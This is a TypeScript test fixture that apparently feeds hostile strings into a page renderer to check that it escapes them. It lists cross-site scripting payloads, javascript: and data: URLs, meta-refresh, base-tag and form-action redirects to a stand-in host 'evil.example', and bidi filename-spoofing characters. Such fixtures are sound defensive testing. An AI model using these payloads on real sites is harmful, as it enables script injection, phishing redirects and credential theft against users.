/** Marks every element and attribute that came out of a word. */
export const ATTRIBUTE = 'data-poison'

/** What a word may hold that a page must show and never be. */
export const poisons: readonly string[] = [
  `<script ${ATTRIBUTE}>alert(1)</script>`,
  `"><img src=x ${ATTRIBUTE} onerror=alert(1)>`,
  `' ${ATTRIBUTE}='1' onmouseover='alert(1)`,
  `" ${ATTRIBUTE}="1" autofocus onfocus="alert(1)`,
  ` ${ATTRIBUTE}=1 onclick=alert(1) `,
  `</pre></code></textarea></title></option><svg ${ATTRIBUTE} onload=alert(1)>`,
  `<base ${ATTRIBUTE} href="https://evil.example/">`,
  `<meta ${ATTRIBUTE} http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<style ${ATTRIBUTE}>*{display:none}</style><link ${ATTRIBUTE} rel=stylesheet href=https://evil.example/x.css>`,
  `<form ${ATTRIBUTE} action="https://evil.example/"><button formaction="https://evil.example/">`,
  `<a ${ATTRIBUTE} id="follow" data-events="https://evil.example/">`,
  `<section ${ATTRIBUTE} data-live id="hero">`,
  `<!-- <![CDATA[ --!> <? <%`,
  `&lt;script&gt;alert(1)&#60;/script&#62; &amp;amp; &quot;`,
  '\u202Etxt.exe\u202D\u2066\u2067\u200F\u200B\uFEFF',
  'a\0b\u0007\u001B[31m\u2028\r\n\t',
  '`${alert(1)}` {{7*7}} <%= 7 %>',
  'javascript:alert(1)',
  'e\u0301'.repeat(50),
  'W'.repeat(3_000),
]

const RUNNING = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '//evil.example',
  'https:evil" onclick="alert(1)',
]

let [words, addresses] = [0, 0]

/** All of them in one, beginning with another one each time; `isAddress`: what stands where an address should. */
export function poison(isAddress = false): string {
  if (isAddress) return RUNNING[(addresses += 1) % RUNNING.length]!
  words += 1
  return [...poisons.slice(words % poisons.length), ...poisons.slice(0, words % poisons.length)].join(' ')
}
